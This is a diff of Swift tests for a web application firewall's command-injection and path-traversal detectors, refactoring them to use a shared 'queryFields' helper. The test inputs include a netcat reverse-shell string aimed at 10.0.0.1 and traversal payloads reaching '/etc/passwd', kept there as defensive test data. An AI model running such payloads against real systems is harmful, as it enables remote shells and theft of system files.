@@ -1,9 +1,6 @@
 import Testing
 @testable import WAF
 
-private func fields(_ encodedQuery: String) -> [InspectedField] {
-    RequestView(method: "GET", target: "/api/products?q=" + encodedQuery, headers: [], body: []).fields
-}
 
 @Suite struct CommandInjectionTests {
     @Test(arguments: [
@@ -13,7 +10,7 @@ private func fields(_ encodedQuery: String) -> [InspectedField] {
         ";+NC+-e+/bin/sh+10.0.0.1+4444",   // mixed case
     ])
     func commandsAfterMetacharactersAreFound(_ query: String) {
-        #expect(fields(query).contains { CommandInjectionDetector.inspect($0.value) != nil }, "\(query)")
+        #expect(queryFields(query).contains { CommandInjectionDetector.inspect($0.value) != nil }, "\(query)")
     }
 
     @Test(arguments: [
@@ -22,7 +19,7 @@ private func fields(_ encodedQuery: String) -> [InspectedField] {
         "find+my+phone+case", "net+bag", "cups;+plates", "arts+%26+crafts",
     ])
     func everydayTextPasses(_ query: String) {
-        #expect(!fields(query).contains { CommandInjectionDetector.inspect($0.value) != nil }, "\(query)")
+        #expect(!queryFields(query).contains { CommandInjectionDetector.inspect($0.value) != nil }, "\(query)")
     }
 }
 
@@ -36,7 +33,7 @@ private func fields(_ encodedQuery: String) -> [InspectedField] {
         "./././././././etc", "file:///etc/passwd",
     ])
     func traversalsAreFound(_ query: String) {
-        #expect(fields(query).contains { PathTraversalDetector.inspect($0.value) != nil }, "\(query)")
+        #expect(queryFields(query).contains { PathTraversalDetector.inspect($0.value) != nil }, "\(query)")
     }
 
     @Test(arguments: [
@@ -44,6 +41,6 @@ private func fields(_ encodedQuery: String) -> [InspectedField] {
         "a+...+b", "size+10.5", "images/2024/summer.jpg", "rock+%26+roll",
     ])
     func ordinaryPathsAndTextPass(_ query: String) {
-        #expect(!fields(query).contains { PathTraversalDetector.inspect($0.value) != nil }, "\(query)")
+        #expect(!queryFields(query).contains { PathTraversalDetector.inspect($0.value) != nil }, "\(query)")
     }
 }
